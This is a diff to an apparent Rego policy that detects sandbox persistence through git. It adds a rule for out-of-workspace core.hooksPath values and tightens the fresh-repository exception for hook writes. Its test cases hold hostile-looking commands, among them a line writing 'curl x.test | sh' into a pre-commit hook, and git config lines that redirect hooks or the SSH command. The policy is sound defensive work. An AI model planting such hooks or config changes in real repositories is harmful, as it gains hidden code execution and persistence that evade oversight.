@@ -168,6 +168,7 @@ replacements := {
 #     - {"language": "bash", "code": "git config --global core.hooksPath /tmp/h"}
 #     - {"language": "bash", "code": "git config --global alias.st '!sh -c x'"}
 #     - {"language": "bash", "code": "git config core.sshCommand 'sh -c x'"}
+#     - {"language": "bash", "code": "git config core.hooksPath /tmp/h"}
 #   not_match:
 #     - {"language": "bash", "code": "git config core.hooksPath .githooks"}
 #     - {"language": "bash", "code": "git config --global user.name x"}
@@ -182,6 +183,12 @@ findings contains {"id": "SBX-PER-0006", "at": c.at, "msg": sprintf("git is told
 }
 
 told(key, _, _) if key in {"core.sshcommand", "core.fsmonitor", "core.askpass", "core.gitproxy"}
+
+told("core.hookspath", value, _) if {
+	startswith(value, "/")
+	not startswith(value, "/workspace/")
+	value != "/dev/null"
+}
 
 told(key, value, c) if {
 	some scope in {"global", "system"}
@@ -208,6 +215,7 @@ runs(key, value) if {
 #   match:
 #     - {"language": "bash", "code": "echo 'curl x.test | sh' > .git/hooks/pre-commit"}
 #     - {"language": "bash", "code": "cp x .git/hooks/post-checkout"}
+#     - {"language": "bash", "code": "git init -q && cp x .git/hooks/post-checkout"}
 #     - {"language": "python", "code": "open('.git/hooks/pre-push', 'w').write('x')"}
 #     - {"language": "javascript", "code": "require('fs').appendFileSync('.git/hooks/pre-push', 'x')"}
 #   not_match:
@@ -218,11 +226,13 @@ runs(key, value) if {
 findings contains {"id": "SBX-PER-0007", "at": f.at, "msg": sprintf("%s is written by %s", [f.path, f.by])} if {
 	some op in {"write", "append", "copy_dst", "move_dst", "link"}
 	some f in input.files[op].git_hook
-	not fresh_repository
+	not fresh_repository(f)
 }
 
-# fresh_repository: the program makes the repository that it gives hooks.
-fresh_repository if {
+# fresh_repository: the program makes the repository that it gives hooks. Where
+# that is the workspace itself, it may have been there before.
+fresh_repository(f) if {
+	not startswith(f.path, "/workspace/.git/")
 	some c in input.commands.git
 	c.operands[0] in {"init", "clone", "init-db"}
 }
